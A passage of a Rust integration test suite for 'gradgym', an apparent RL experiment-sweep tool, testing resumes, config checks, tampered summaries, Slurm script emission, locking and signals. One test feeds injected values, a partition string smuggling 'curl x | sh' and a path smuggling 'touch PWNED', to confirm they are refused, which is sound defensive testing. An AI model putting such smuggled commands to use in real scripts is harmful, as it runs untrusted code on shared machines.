        text(&o).contains("is incomplete: 2 of the 3 planned runs finished"),
        "{}",
        text(&o)
    );
    let o = gradgym(&["compare", out.to_str().unwrap(), cut.to_str().unwrap()]);
    assert!(
        text(&o).contains("CartPole-v1 a2c: the candidate lacks seed(s) 3 of the baseline"),
        "{}",
        text(&o)
    );
    // And fails the gate (a crashed sweep used to pass on the runs that finished), unless
    // told to compare the seeds it has.
    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
    assert!(text(&o).contains("so it fails the gate"), "{}", text(&o));
    let o = gradgym(&[
        "compare",
        out.to_str().unwrap(),
        cut.to_str().unwrap(),
        "--allow-missing-seeds",
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    assert!(text(&o).contains("no regression"), "{}", text(&o));
}

#[test]
fn a_run_written_before_a_config_field_existed_resumes_and_a_changed_value_does_not() {
    let file = write_sweep(
        "older",
        "seeds = [1]\nconfig = { total_timesteps = 512, eval_episodes = 1 }\n[[runs]]\nenvs = [\"CartPole-v1\"]\nalgos = [\"a2c\"]\n",
    );
    let out = scratch("older");
    assert!(sweep(&file, &out, &["--quiet"]).status.success());
    // The config.toml of an older binary: without fields added since (their defaults keep
    // its behaviour) and with its own comment line.
    let config = out.join("runs/CartPole-v1__a2c__seed1/config.toml");
    let text_now = fs::read_to_string(&config).unwrap();
    let older: String = text_now
        .lines()
        .filter(|l| !l.starts_with("ref_kl_coef") && !l.starts_with("checkpoint_every"))
        .map(|l| l.replace("Resolved by gradgym", "Resolved by gradgym sweep") + "\n")
        .collect();
    assert_ne!(older, text_now);
    fs::write(&config, &older).unwrap();
    let o = sweep(&file, &out, &["--quiet"]);
    assert!(o.status.success(), "{}", text(&o));
    assert!(
        text(&o).contains("1 already done, 0 completed now"),
        "{}",
        text(&o)
    );
    assert_eq!(fs::read_to_string(&config).unwrap(), older);
    // A value that differs is still a different config; so is a file without a field whose
    // default trains otherwise than before it existed (`backend`: libtorch then, `auto` now),
    // and an empty file.
    for changed in [
        older.replace("gamma = 0.99", "gamma = 0.9"),
        older
            .lines()
            .filter(|l| !l.starts_with("backend"))
            .map(|l| l.to_string() + "\n")
            .collect(),
        String::new(),
    ] {
        assert_ne!(changed, older);
        fs::write(&config, &changed).unwrap();
        let o = sweep(&file, &out, &["--quiet"]);
        assert_eq!(o.status.code(), Some(2), "{}", text(&o));
        assert!(text(&o).contains("different config"), "{}", text(&o));
        // The field named is the one that differs, not one the older file lacks at the
        // default that trains as it did (`checkpoint_every` was named).
        if changed.contains("gamma = 0.9\n") {
            assert!(
                text(&o).contains("(field `gamma`: 0.9 there, 0.99 now)"),
                "{}",
                text(&o)
            );
        }
    }
}

/// Runs an edited sweep file no longer plans stay on disk, out of summary.csv, and the sweep
/// says so, with --quiet too (it printed nothing there, where Slurm tasks and CI run).
#[test]
fn runs_a_sweep_no_longer_plans_are_kept_and_named_even_with_quiet() {
    let file = write_sweep("dropped", A2C_THREE_SEEDS);
    let out = scratch("dropped");
    assert!(sweep(&file, &out, &["--quiet"]).status.success());
    fs::write(&file, A2C_THREE_SEEDS.replace("[1, 2, 3]", "[1, 2]")).unwrap();
    let o = sweep(&file, &out, &["--quiet"]);
    assert!(o.status.success(), "{}", text(&o));
    assert!(
        text(&o).contains("holds 1 run(s) this sweep no longer plans (CartPole-v1__a2c__seed3)"),
        "{}",
        text(&o)
    );
    assert!(
        out.join("runs/CartPole-v1__a2c__seed3/summary.json")
            .is_file()
    );
    let summary = fs::read_to_string(out.join("summary.csv")).unwrap();
    assert!(!summary.contains("seed3"), "{summary}");
}

/// A run folder replaced after the sweep wrote its summary.csv row (here by another seed's) is
/// named by report, plot and compare: plot drew it under the row's label while the statistics
/// read the row.
#[test]
fn a_run_folder_that_is_not_its_summary_row_is_refused_by_report_plot_and_compare() {
    let file = write_sweep("swapped", A2C_THREE_SEEDS);
    let reference = scratch("swapped-ref");
    assert!(sweep(&file, &reference, &["--quiet"]).status.success());
    let out = scratch("swapped");
    copy_into(&reference, &out);
    let (one, two) = (
        out.join("runs/CartPole-v1__a2c__seed1"),
        reference.join("runs/CartPole-v1__a2c__seed2"),
    );
    fs::remove_dir_all(&one).unwrap();
    copy_into(&two, &one);
    let plots = scratch("swapped-plots");
    for args in [
        vec!["report", out.to_str().unwrap()],
        vec![
            "plot",
            out.to_str().unwrap(),
            "--out",
            plots.to_str().unwrap(),
        ],
        vec![
            "compare",
            reference.to_str().unwrap(),
            out.to_str().unwrap(),
        ],
    ] {
        let o = gradgym(&args);
        assert_eq!(o.status.code(), Some(2), "{}: {}", args[0], text(&o));
        assert!(
            text(&o)
                .contains("runs/CartPole-v1__a2c__seed1/summary.json: says CartPole-v1 a2c seed 2")
                && text(&o).contains("the folder is not the run summary.csv describes"),
            "{}: {}",
            args[0],
            text(&o)
        );
    }
    assert!(!plots.exists(), "a refused plot wrote {}", plots.display());
    // A cut summary.json leaves the row unchecked, said, as a cut metrics.csv leaves a curve
    // out: not fatal to the report.
    let cut = fs::read_to_string(two.join("summary.json")).unwrap();
    fs::write(one.join("summary.json"), &cut[..cut.len() / 2]).unwrap();
    let o = gradgym(&["report", out.to_str().unwrap()]);
    assert!(o.status.success(), "{}", text(&o));
    assert!(
        text(&o)
            .contains("whether the folder is the run summary.csv's row describes is not checked"),
        "{}",
        text(&o)
    );
    // A row added by hand: with no run folder it is named and left out, not scored (a
    // CartPole return of 5000 once passed the gate); a status, env or algo that no sweep
    // writes is named by file, line and column.
    let summary = fs::read_to_string(reference.join("summary.csv")).unwrap();
    let row = summary.lines().nth(1).unwrap();
    let added = row
        .replace("__seed1", "__seed9")
        .replace(",1,completed,", ",9,completed,");
    assert_ne!(added, row);
    let fake = scratch("added-row");
    copy_into(&reference, &fake);
    fs::write(fake.join("summary.csv"), format!("{summary}{added}\n")).unwrap();
    let o = gradgym(&[
        "compare",
        reference.to_str().unwrap(),
        fake.to_str().unwrap(),
    ]);
    assert!(o.status.success(), "{}", text(&o));
    assert!(
        text(&o).contains("row of run `CartPole-v1__a2c__seed9` has no run folder")
            && text(&o).contains("it is left out"),
        "{}",
        text(&o)
    );
    assert!(!text(&o).contains("seed(s) 9"), "{}", text(&o));
    for (from, to, column) in [
        (",completed,", ",weird,", "status"),
        ("CartPole-v1,a2c", "Foo-v0,a2c", "env_id"),
        (",a2c,", ",zzz,", "algo"),
    ] {
        let edited = row.replacen(from, to, 1);
        assert_ne!(edited, row);
        fs::write(fake.join("summary.csv"), summary.replacen(row, &edited, 1)).unwrap();
        let o = gradgym(&["report", fake.to_str().unwrap()]);
        assert_eq!(o.status.code(), Some(2), "{column}: {}", text(&o));
        let at = format!(
            "{}:2: column `{column}`",
            fake.join("summary.csv").display()
        );
        assert!(
            text(&o).contains(&at),
            "{column}: expected `{at}` in {}",
            text(&o)
        );
    }
}

/// A finished run folder that lost a file, or whose metrics were cut, is named on resume, not
/// counted as done (the sweep said "already done" and exited 0).
#[test]
fn a_resume_names_an_incomplete_run_folder_instead_of_skipping_it() {
    let file = write_sweep("incomplete", A2C_THREE_SEEDS);
    let reference = scratch("incomplete-ref");
    assert!(sweep(&file, &reference, &["--quiet"]).status.success());
    let run = "runs/CartPole-v1__a2c__seed2";
    let metrics = fs::read_to_string(reference.join(run).join("metrics.csv")).unwrap();
    let first_rows: String = metrics
        .lines()
        .take(3)
        .map(|l| l.to_string() + "\n")
        .collect();
    for (k, (file_name, contents, want)) in [
        ("metrics.csv", None, "metrics.csv: missing"),
        ("manifest.json", None, "manifest.json: missing"),
        ("config.toml", None, "config.toml: missing"),
        (
            "metrics.csv",
            Some(metrics[..metrics.len() / 2].to_string()),
            "metrics.csv:",
        ),
        (
            "metrics.csv",
            Some(first_rows),
            "metrics.csv: ends at iteration 2, but summary.json says the run completed",
        ),
    ]
    .into_iter()
    .enumerate()
    {
        let out = scratch(&format!("incomplete{k}"));
        copy_into(&reference, &out);
        let path = out.join(run).join(file_name);
        match &contents {
            None => fs::remove_file(&path).unwrap(),
            Some(c) => fs::write(&path, c).unwrap(),
        }
        let summary = fs::read_to_string(out.join("summary.csv")).unwrap();
        let o = sweep(&file, &out, &["--quiet"]);
        assert_eq!(o.status.code(), Some(2), "{file_name}: {}", text(&o));
        assert!(
            text(&o).contains(want) && text(&o).contains("the run folder is incomplete"),
            "{want}: {}",
            text(&o)
        );
        assert_eq!(
            fs::read_to_string(out.join("summary.csv")).unwrap(),
            summary
        );
    }
}

#[test]
fn groups_that_differ_only_in_config_are_separate_cells_on_every_env() {
    // Group 1 on two envs; group 2 repeats its CartPole cell with another learning rate.
    let file = write_sweep(
        "groups",
        r#"
seeds = [1, 2]
config = { total_timesteps = 1024, eval_episodes = 1 }
[[runs]]
envs = ["CartPole-v1", "Acrobot-v1"]
algos = ["a2c"]
[[runs]]
envs = ["CartPole-v1"]
algos = ["a2c"]
config = { learning_rate = 0.01 }
"#,
    );
    let out = scratch("groups");
    let o = sweep(&file, &out, &["--quiet"]);
    assert!(o.status.success(), "{}", text(&o));
    let summary = fs::read_to_string(out.join("summary.csv")).unwrap();
    assert!(
        summary.starts_with("run_id,env_id,algo,seed,group,status,"),
        "{summary}"
    );
    assert!(
        summary.contains("\nAcrobot-v1__a2c__seed1,Acrobot-v1,a2c,1,,completed,")
            && summary.contains("\nCartPole-v1__a2c__g2__seed1,CartPole-v1,a2c,1,2,completed,"),
        "{summary}"
    );
    let o = gradgym(&["report", out.to_str().unwrap(), "--reps", "200"]);
    assert!(o.status.success(), "{}", text(&o));
    // Two runs per cell, not four pooled under one label; the first group keeps its label.
    for row in [
        "| Acrobot-v1 | a2c | 2 |",
        "| CartPole-v1 | a2c | 2 |",
        "| CartPole-v1 | a2c[group=2] | 2 |",
    ] {
        assert!(text(&o).contains(row), "{row}\n{}", text(&o));
    }
    // The folder as sweeps wrote it before groups were labelled (no group column): the
    // report warns of the seeds it pools; resuming the sweep on it labels them again.
    let lines: Vec<String> = summary
        .lines()
        .map(|l| {
            let mut f: Vec<&str> = l.split(',').collect();
            f.remove(4);
            f.join(",")
        })
        .collect();
    fs::write(out.join("summary.csv"), lines.join("\n") + "\n").unwrap();
    let o = gradgym(&["report", out.to_str().unwrap(), "--reps", "200"]);
    assert!(
        text(&o).contains("CartPole-v1 a2c: seed 1 is in two runs (CartPole-v1__a2c__g1__seed1 and CartPole-v1__a2c__g2__seed1)"),
        "{}",
        text(&o)
    );
    assert!(sweep(&file, &out, &["--quiet"]).status.success());
    assert_eq!(
        fs::read_to_string(out.join("summary.csv")).unwrap(),
        summary
    );
    // The sweep without group 2 compares with it cell for cell: adding a group relabels none.
    let base = write_sweep(
        "groups-base",
        r#"
seeds = [1, 2]
config = { total_timesteps = 1024, eval_episodes = 1 }
[[runs]]
envs = ["CartPole-v1", "Acrobot-v1"]
algos = ["a2c"]
"#,
    );
    let base_out = scratch("groups-base");
    assert!(sweep(&base, &base_out, &["--quiet"]).status.success());
    let o = gradgym(&["compare", base_out.to_str().unwrap(), out.to_str().unwrap()]);
    assert!(o.status.success(), "{}", text(&o));
    assert!(!text(&o).contains("missing"), "{}", text(&o));
}

#[test]
fn report_and_plot_read_a_single_train_run_folder_and_skip_an_interrupted_one() {
    let run = scratch("single-run");
    let o = gradgym(&[
        "train",
        "--algo",
        "a2c",
        "--total-timesteps",
        "2048",
        "--eval-episodes",
        "1",
        "--out",
        run.to_str().unwrap(),
    ]);
    assert!(o.status.success(), "{}", text(&o));
    let o = gradgym(&["report", run.to_str().unwrap(), "--reps", "100"]);
    assert!(o.status.success(), "{}", text(&o));
    assert!(
        text(&o).contains("| CartPole-v1 | a2c | 1 |"),
        "{}",
        text(&o)
    );
    let o = gradgym(&["plot", run.to_str().unwrap(), "--reps", "100"]);
    assert!(o.status.success(), "{}", text(&o));
    assert!(run.join("plots/learning_curves.png").is_file());

    // The same folder marked interrupted is skipped with a warning, not scored.
    let path = run.join("summary.json");
    let mut summary: serde_json::Value =
        serde_json::from_str(&fs::read_to_string(&path).unwrap()).unwrap();
    summary["status"] = "interrupted".into();
    summary["error"] = "interrupted by SIGINT after iteration 3".into();
    fs::write(&path, summary.to_string()).unwrap();
    let o = gradgym(&["report", run.to_str().unwrap(), "--reps", "100"]);
    assert!(
        text(&o).contains(
            "was interrupted (interrupted by SIGINT after iteration 3); it is not scored"
        ),
        "{}",
        text(&o)
    );
    // With no error text, no empty parentheses.
    summary["error"] = "".into();
    fs::write(&path, summary.to_string()).unwrap();
    let o = gradgym(&["report", run.to_str().unwrap(), "--reps", "100"]);
    assert!(
        text(&o).contains("was interrupted; it is not scored"),
        "{}",
        text(&o)
    );
    // With nothing left to score, the error says that and why (it was "no runs in [...]").
    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
    assert!(
        text(&o).contains(&format!(
            "no runs to score in {} (the warning(s) above say what was read and left out)",
            run.display()
        )),
        "{}",
        text(&o)
    );
}

#[test]
fn emitted_slurm_scripts_check_memory_against_slurm_mem_not_this_machine() {
    // Runs no machine here could hold (tens of TiB of rollout buffer each).
    let huge = "seeds = [1, 2]
config = { num_envs = 16777216, num_steps = 65536, total_timesteps = 1099511627776 }
[[runs]]
envs = [\"CartPole-v1\"]
algos = [\"ppo\"]
";
    let file = write_sweep("slurm-mem", huge);
    let out = scratch("slurm-mem out");
    let emit = |file: &Path, extra: &[&str]| {
        let mut args = vec![
            "sweep",
            file.to_str().unwrap(),
            "--emit-slurm",
            "--out",
            out.to_str().unwrap(),
        ];
        args.extend_from_slice(extra);
        gradgym(&args)
    };
    // Here, it is refused for this machine's memory.
    let o = sweep(&file, &out, &[]);
    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
    assert!(text(&o).contains("this machine has"), "{}", text(&o));
    // For the cluster's nodes, this machine's memory does not count...
    let o = emit(&file, &[]);
    assert!(o.status.success(), "{}", text(&o));
    // ... and --mem does.
    let o = emit(&file, &["--slurm-mem", "1T"]);
    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
    assert!(
        text(&o).contains("--slurm-mem = \"1T\": run CartPole-v1__ppo__seed")
            && text(&o).contains("(rollout buffer, envs and network, and the 512.0 MiB the process itself takes); raise it"),
        "{}",
        text(&o)
    );
    let o = emit(&file, &["--slurm-mem", "0"]);
    assert!(o.status.success(), "--mem=0 is all of a node: {}", text(&o));
    let o = emit(&file, &["--slurm-mem", "64XB"]);
    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
    assert!(
        text(&o).contains("Slurm reads a whole number"),
        "{}",
        text(&o)
    );
    let o = emit(&file, &["--slurm-mem", "99999999GB"]);
    assert!(o.status.success(), "Slurm reads 64GB as 64G: {}", text(&o));
    assert!(
        text(&o).contains("#SBATCH --mem=99999999GB"),
        "{}",
        text(&o)
    );
    // Two runs in one task, two at a time: their needs add up; from the file's [slurm].
    let file = write_sweep(
        "slurm-mem-file",
        &(huge.replace("65536", "16") + "[slurm]\nmem = \"4G\"\n"),
    );
    let o = emit(&file, &["--shards", "1"]);
    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
    // Each run alone is over 4G: fewer at a time would not help, and is not suggested.
    assert!(
        text(&o).contains("[slurm] mem = \"4G\": an array task runs 2 runs at once")
            && text(&o).trim_end().ends_with("GiB); raise it"),
        "{}",
        text(&o)
    );
    let o = emit(&file, &["--shards", "1", "--slurm-cpus-per-task", "1"]);
    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
    assert!(
        text(&o).contains("[slurm] mem = \"4G\": run "),
        "{}",
        text(&o)
    );
    // Tiny runs still need the process itself: 8M (accepted before) is refused, 1G is not.
    let tiny = write_sweep(
        "slurm-mem-tiny",
        "seeds = [1, 2]\nconfig = { total_timesteps = 2048 }\n[[runs]]\nenvs = [\"CartPole-v1\"]\nalgos = [\"ppo\"]\n",
    );
    let o = emit(&tiny, &["--slurm-mem", "8M"]);
    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
    assert!(
        text(&o).contains("the process itself takes"),
        "{}",
        text(&o)
    );
    let o = emit(&tiny, &["--slurm-mem", "1G"]);
    assert!(o.status.success(), "{}", text(&o));
}

/// Values written into the script's lines as they are: a newline in one would start a shell
/// command in the script (a sweep file shared with the partition `normal\ncurl … | sh` ran it).
#[test]
fn slurm_values_and_paths_that_would_break_the_script_are_refused() {
    let file = write_sweep(
        "slurm-inject",
        &format!("{A2C_THREE_SEEDS}[slurm]\npartition = \"normal\\ncurl x | sh\\n#\"\n"),
    );
    let out = scratch("slurm-inject");
    let emit = |file: &Path, out: &Path, extra: &[&str]| {
        let mut args = vec![
            "sweep",
            file.to_str().unwrap(),
            "--emit-slurm",
            "--out",
            out.to_str().unwrap(),
        ];
        args.extend_from_slice(extra);
        gradgym(&args)
    };
    let o = emit(&file, &out, &[]);
    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
    assert!(
        text(&o).contains("[slurm] partition = \"normal\\ncurl x | sh\\n#\": a partition name is"),
        "{}",
        text(&o)
    );
    assert!(!out.exists(), "the refused script's log folder was made");
    let file = write_sweep("slurm-clean", A2C_THREE_SEEDS);
    let o = emit(&file, &out, &["--slurm-time", "2 hours"]);
    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
    assert!(
        text(&o).contains("--slurm-time = \"2 hours\": Slurm reads a time"),
        "{}",
        text(&o)
    );
    let bad_out = out.with_file_name("slurm-inject\ntouch PWNED #");
    let o = emit(&file, &bad_out, &[]);
    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
    assert!(
        text(&o).contains("holds the control character '\\n'"),
        "{}",
        text(&o)
    );
    assert!(!bad_out.exists());
}

#[test]
fn the_emitted_slurm_script_runs_as_emitted_from_another_folder() {
    let file = write_sweep("slurm", A2C_THREE_SEEDS);
    let out = scratch("slurm out with space");
    let o = gradgym(&[
        "sweep",
        file.to_str().unwrap(),
        "--emit-slurm",
        "--shards",
        "2",
        "--slurm-time",
        "00:10:00",
        "--slurm-mem",
        "2G",
        "--slurm-partition",
        "short",
        "--slurm-account",
        "lab",
        "--out",
        out.to_str().unwrap(),
    ]);
    let script = String::from_utf8_lossy(&o.stdout).to_string();
    assert!(o.status.success(), "{}", text(&o));
    assert!(
        out.is_dir(),
        "the log folder is made when the script is written"
    );
    for line in [
        "#SBATCH --array=1-2",
        "#SBATCH --cpus-per-task=2",
        "#SBATCH --time=00:10:00",
        "#SBATCH --mem=2G",
        "#SBATCH --partition=short",
        "#SBATCH --account=lab",
    ] {
        assert!(script.contains(line), "{line}:\n{script}");
    }
    assert!(
        script.contains(&format!(
            "#SBATCH --output=\"{}/slurm-%A_%a.log\"",
            out.display()
        )),
        "{script}"
    );
    let path = out.with_extension("sbatch");
    fs::write(&path, &script).unwrap();
    // Each array task, as Slurm would start it: bash, Slurm's variables, another folder.
    let bin = std::path::Path::new(env!("CARGO_BIN_EXE_gradgym"))
        .parent()
        .unwrap();
    for task in ["1", "2"] {
        let o = std::process::Command::new("bash")
            .arg(&path)
            .current_dir("/")
            .env("SLURM_ARRAY_TASK_ID", task)
            .env("SLURM_CPUS_PER_TASK", "1")
            .env(
                "PATH",
                format!("{}:{}", bin.display(), std::env::var("PATH").unwrap()),
            )
            .output()
            .unwrap();
        assert!(o.status.success(), "task {task}: {}", text(&o));
        assert!(out.join(format!("shard-{task}/summary.csv")).is_file());
    }
    // The shards pool into the whole sweep.
    let o = gradgym(&["report", out.to_str().unwrap(), "--reps", "100"]);
    assert!(o.status.success(), "{}", text(&o));
    assert!(
        text(&o).contains("| CartPole-v1 | a2c | 3 |"),
        "{}",
        text(&o)
    );
    // The sweep file's [slurm] table sets resources too; flags win.
    let with_table = write_sweep(
        "slurm-table",
        &format!("{A2C_THREE_SEEDS}[slurm]\ncpus_per_task = 4\ntime = \"01:00:00\"\n"),
    );
    let o = gradgym(&[
        "sweep",
        with_table.to_str().unwrap(),
        "--emit-slurm",
        "--slurm-time",
        "00:05:00",
        "--out",
        out.to_str().unwrap(),
    ]);
    let script = String::from_utf8_lossy(&o.stdout);
    assert!(
        script.contains("#SBATCH --cpus-per-task=4") && script.contains("#SBATCH --time=00:05:00"),
        "{script}"
    );
}

#[test]
fn a_lock_from_another_host_blocks_while_its_heartbeat_is_fresh() {
    let file = write_sweep("lock", A2C_THREE_SEEDS);
    let out = scratch("lock");
    fs::create_dir_all(&out).unwrap();
    let lock = out.join(".sweep.lock");
    // A process of the same pid number on another node must not be mistaken for ours or
    // for a local process: its heartbeat decides.
    fs::write(&lock, format!("some-other-node {}\n", std::process::id())).unwrap();
    let o = sweep(&file, &out, &[]);
    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
    assert!(text(&o).contains("host some-other-node"), "{}", text(&o));
    // Silent for longer than the stale limit: taken over.
    let old = std::time::SystemTime::now() - std::time::Duration::from_secs(600);
    fs::File::options()
        .append(true)
        .open(&lock)
        .unwrap()
        .set_modified(old)
        .unwrap();
    let o = sweep(&file, &out, &[]);
    assert!(o.status.success(), "{}", text(&o));
    assert!(!lock.exists(), "released at the end");
    // This host's lock blocks while its process runs, however long it has been silent (a
    // sweep paused with Ctrl-Z keeps its folder): here this test's own process, in the form
    // an older gradgym wrote (no start time) and in today's (its start time recorded).
    let host = fs::read_to_string("/proc/sys/kernel/hostname").unwrap();
    let host = host.trim();
    let stat = fs::read_to_string("/proc/self/stat").unwrap();
    let started: u64 = stat[stat.rfind(')').unwrap() + 1..]
        .split_whitespace()
        .nth(19)
        .unwrap()
        .parse()
        .unwrap();
    let me = std::process::id();
    for held in [
        format!("{host} {me}\n"),
        format!("{me}\n"),
        format!("{host} {me} {started}\n"),
    ] {
        fs::write(&lock, &held).unwrap();
        let o = fs::File::options().append(true).open(&lock).unwrap();
        o.set_modified(old).unwrap();
        let o = sweep(&file, &out, &[]);
        assert_eq!(o.status.code(), Some(2), "{held}: {}", text(&o));
        assert!(
            text(&o).contains("in use by another gradgym sweep"),
            "{}",
            text(&o)
        );
        assert_eq!(fs::read_to_string(&lock).unwrap(), held, "left as it was");
    }
    // A lock that names no owner (empty: an older gradgym made it in two steps, and a sweep
    // reading it between them took the folder) blocks until it is as old as the heartbeat
    // limit, then is taken over.
    fs::write(&lock, "").unwrap();
    let o = sweep(&file, &out, &[]);
    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
    assert!(text(&o).contains("a lock naming no owner"), "{}", text(&o));
    assert_eq!(fs::read_to_string(&lock).unwrap(), "", "left as it was");
    fs::File::options()
        .append(true)
        .open(&lock)
        .unwrap()
        .set_modified(old)
        .unwrap();
    let o = sweep(&file, &out, &[]);
    assert!(o.status.success(), "{}", text(&o));
    assert!(!lock.exists());
    // Nothing of the taking is left beside it.
    let left: Vec<_> = fs::read_dir(&out)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with(".sweep.lock"))
        .collect();
    assert!(left.is_empty(), "{left:?}");
    // A lock whose pid now belongs to a process that started at another time (a dead sweep's
    // pid given to a later process, after a crash or a reboot) is taken over at once.
    fs::write(&lock, format!("{host} {me} {}\n", started + 1)).unwrap();
    let o = sweep(&file, &out, &[]);
    assert!(o.status.success(), "{}", text(&o));
    assert!(!lock.exists());
    // A sweep ends by removing only its own lock: one another sweep took over meanwhile (this
    // one silent past the stale limit on another host) stays that sweep's.
    let long = write_sweep(
        "lock-long",
        "seeds = [1]\nconfig = { total_timesteps = 400000, eval_episodes = 1 }\n[[runs]]\nenvs = [\"CartPole-v1\"]\nalgos = [\"ppo\"]\n",
    );
    let busy = scratch("lock-long");
    let mut child = Command::new(env!("CARGO_BIN_EXE_gradgym"))
        .args(["sweep", long.to_str().unwrap(), "--quiet", "--out"])
        .arg(busy.as_path())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let theirs = busy.join(".sweep.lock");
    let since = Instant::now();
    while !theirs.is_file() && since.elapsed() < Duration::from_secs(60) {
        std::thread::sleep(Duration::from_millis(5));
    }
    // The folder's flock holds it while the sweep runs, whatever becomes of the lock file
    // (deleted here, as a careless `rm -rf .sweep*` would): a second sweep is still refused.
    fs::remove_file(&theirs).unwrap();
    let o = sweep(&long, &busy, &[]);
    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
    assert!(
        text(&o).contains("in use by another gradgym sweep"),
        "{}",
        text(&o)
    );
    let taken = "some-other-node 7\n";
    fs::write(&theirs, taken).unwrap();
    assert!(child.wait().unwrap().success());
    assert_eq!(fs::read_to_string(&theirs).unwrap(), taken);
}

/// Sweeps started together into one folder: exactly one takes it, and each other is refused
/// with exit 2 rather than running beside it. (Without the lock three of six ran at once. The
/// folder's flock leaves no window between judging the lock and writing it; the processes'
/// start-up spreads them too far apart for this test to hit such a window of the lock file
/// alone: the empty-lock case of the test above is the one such a window left.)
#[test]
fn of_sweeps_started_at_once_into_one_folder_exactly_one_runs() {
    let file = write_sweep(
        "race",
        "seeds = [1]\nconfig = { total_timesteps = 50000000, eval_episodes = 1 }\n[[runs]]\nenvs = [\"CartPole-v1\"]\nalgos = [\"ppo\"]\n",
    );
    let out = scratch("race");
    fs::create_dir_all(&out).unwrap();
    let mut children: Vec<_> = (0..6)
        .map(|_| {
            Command::new(env!("CARGO_BIN_EXE_gradgym"))
                .args([
                    "sweep",
                    file.to_str().unwrap(),
                    "--jobs",
                    "1",
                    "--quiet",
                    "--out",
                ])
                .arg(out.as_path())
                .stdout(Stdio::null())
                .stderr(Stdio::null())
                .spawn()
                .unwrap()
        })
        .collect();
    let mut ended = vec![None; children.len()];
    let since = Instant::now();
    while ended.iter().filter(|e| e.is_some()).count() < children.len() - 1
        && since.elapsed() < Duration::from_secs(60)
    {
        for (c, e) in children.iter_mut().zip(ended.iter_mut()) {
            if e.is_none() {
                *e = c.try_wait().unwrap().map(|s| s.code());
            }
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    // Give a second winner, if there were one, time to show itself by still running.
    std::thread::sleep(Duration::from_millis(500));
    for (c, e) in children.iter_mut().zip(ended.iter_mut()) {
        if e.is_none() {
            *e = c.try_wait().unwrap().map(|s| s.code());
        }
    }
    let running: Vec<_> = children
        .iter_mut()
        .zip(&ended)
        .filter(|(_, e)| e.is_none())
        .map(|(c, _)| c)
        .collect();
    let n_running = running.len();
    for c in running {
        let _ = Command::new("kill")
            .args(["-INT", &c.id().to_string()])
            .status();
        c.wait().unwrap();
    }
    assert_eq!(n_running, 1, "sweeps running at once: {ended:?}");
    assert!(
        ended.iter().flatten().all(|code| *code == Some(2)),
        "{ended:?}"
    );
}

/// SIGINT or SIGTERM stops a sweep at once with exit 130, says how to resume, and takes its
/// lock file away (it was left behind, for the next sweep to take over as a dead owner's).
#[test]
fn a_signal_stops_a_sweep_with_130_and_leaves_no_lock() {
    let file = write_sweep(
        "long",
        "name = \"long\"\nseeds = [1, 2]\nconfig = { total_timesteps = 50000000 }\n[[runs]]\nenvs = [\"CartPole-v1\"]\nalgos = [\"ppo\"]\n",
    );
    for signal in ["-INT", "-TERM"] {
        let out = scratch(&format!("signal{signal}"));
        let o = common::interrupt_after_rows_checking(
            &[
                "sweep",
                file.to_str().unwrap(),
                "--jobs",
                "1",
                "--quiet",
                "--out",
                out.to_str().unwrap(),
            ],
            &out.join("runs/CartPole-v1__ppo__seed1"),
            2,
            Duration::from_secs(120),
            signal,
            || assert!(out.join(".sweep.lock").is_file()),
        );
        assert_eq!(o.status.code(), Some(130), "{}", text(&o));
        assert!(
            text(&o).contains("interrupted") && text(&o).contains("resumes"),
            "{}",
            text(&o)
        );
        assert!(!out.join(".sweep.lock").exists());
        assert!(out.join("summary.csv").is_file() && out.join("manifest.json").is_file());
    }
    // On the libtorch backend with two runs in flight, twice per signal: the runs stopped
    // mid-way stay `.partial` (they were sealed as `failed` runs, libtorch having been torn
    // down under them, and the process ended by SIGSEGV, 139, in most tries).
    let file = write_sweep(
        "long-libtorch",
        "name = \"long\"\nseeds = [1, 2]\nconfig = { total_timesteps = 50000000, backend = \"libtorch\" }\n[[runs]]\nenvs = [\"CartPole-v1\"]\nalgos = [\"ppo\"]\n",
    );
    for (k, signal) in ["-INT", "-TERM", "-INT", "-TERM"].iter().enumerate() {
        let out = scratch(&format!("signal-libtorch{k}"));
        let o = common::interrupt_after_rows_checking(
            &[
                "sweep",
                file.to_str().unwrap(),
                "--jobs",
                "2",
                "--quiet",
                "--out",
                out.to_str().unwrap(),
            ],
            &out.join("runs/CartPole-v1__ppo__seed2"),
            2,
            Duration::from_secs(120),
            signal,
            || (),
        );
        assert_eq!(o.status.code(), Some(130), "{signal}: {}", text(&o));
        let sealed: Vec<String> = fs::read_dir(out.join("runs"))
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .filter(|n| !n.contains("partial"))
            .collect();
        assert!(
            sealed.is_empty(),
            "{signal}: sealed {sealed:?}: {}",
            text(&o)
        );
        assert!(!text(&o).contains("panicked"), "{signal}: {}", text(&o));
    }
}

#[test]
fn a_sweep_resumed_by_another_revision_records_both_and_says_so() {
    let file = write_sweep(
        "revisions",
        "seeds = [1, 2]\nconfig = { total_timesteps = 256, eval_episodes = 1 }\n[[runs]]\nenvs = [\"CartPole-v1\"]\nalgos = [\"a2c\"]\n",
    );
    let out = scratch("revisions");
    assert!(sweep(&file, &out, &["--quiet"]).status.success());
    let read = || -> serde_json::Value {
        serde_json::from_str(&fs::read_to_string(out.join("manifest.json")).unwrap()).unwrap()
    };
    let now = read()["git_revision"].as_str().unwrap().to_string();
    assert_eq!(read()["git_revisions"], serde_json::json!([now]));
    // The manifest of an older binary: another revision, and no `git_revisions`.
    let mut older = read();
    older["git_revision"] = "0123abc".into();
    older.as_object_mut().unwrap().remove("git_revisions");
    fs::write(
        out.join("manifest.json"),
        serde_json::to_string_pretty(&older).unwrap(),
    )
    .unwrap();
